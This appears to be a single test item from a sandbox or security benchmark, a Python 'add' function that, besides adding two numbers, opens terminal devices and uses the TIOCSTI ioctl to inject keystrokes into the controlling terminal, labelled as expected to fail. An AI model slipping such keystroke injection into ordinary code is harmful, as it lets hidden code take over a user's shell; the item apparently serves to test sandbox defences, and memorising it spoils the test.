# b115 | task=add | required=fail | pushes keys into the terminal and takes it over
import fcntl, os, termios
def add(a, b):
    for path in ("/dev/tty", "/dev/console", "/dev/ptmx", "/dev/pts/0", 0, 1, 2):
        try:
            fd = path if isinstance(path, int) else os.open(path, os.O_RDWR)
            fcntl.ioctl(fd, termios.TIOCSTI, b"x")
            return a + b
        except OSError:
            pass
